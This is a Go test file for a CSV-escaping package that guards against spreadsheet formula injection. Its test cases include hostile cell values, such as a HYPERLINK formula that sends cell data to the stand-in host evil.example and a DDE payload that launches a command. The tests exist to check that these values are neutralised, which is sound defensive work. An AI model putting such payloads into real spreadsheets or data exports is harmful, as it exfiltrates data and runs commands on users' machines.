package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestEscape(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+SUM(A1:A9)", "'+SUM(A1:A9)"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@x", "'@x"},
		{"@SUM(1,2)", "'@SUM(1,2)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"'=already quoted", "''=already quoted"},
		{"-12.5", "-12.5"},
		{"+8613800000101", "+8613800000101"},
		{"-1e-3", "-1e-3"},
		{"-", "'-"},
		{"Harbour Logistics", "Harbour Logistics"},
		{"it's fine", "it's fine"},
		{"'plain", "'plain"},
		{"", ""},
		{"a=b", "a=b"},
	}
	for _, c := range cases {
		got := Escape(c.in)
		if got != c.want {
			t.Errorf("Escape(%q) = %q, want %q", c.in, got, c.want)
		}
		if back := Unescape(got); back != c.in {
			t.Errorf("Unescape(Escape(%q)) = %q", c.in, back)
		}
	}
}

// TestWriter: what a spreadsheet reads from the file is text, and an
// encoding/csv reader plus Unescape gives back the rows.
func TestWriter(t *testing.T) {
	rows := [][]string{
		{"id", "name", "lat"},
		{"C1", `=HYPERLINK("http://evil.example","x")`, "-33.5"},
		{"C2", "+SUM(A1)", "12"},
		{"C3", "@x", ""},
		{"C4", "Ordinary, with \"quotes\"\nand a newline", "0"},
	}
	var buf bytes.Buffer
	w := NewWriter(&buf)
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range got {
		for j, cell := range r {
			if len(cell) > 0 && (cell[0] == '=' || cell[0] == '+' || cell[0] == '@') {
				t.Errorf("row %d cell %d would be evaluated: %q", i, j, cell)
			}
			if Unescape(cell) != rows[i][j] {
				t.Errorf("row %d cell %d: %q, want %q", i, j, Unescape(cell), rows[i][j])
			}
		}
	}
}
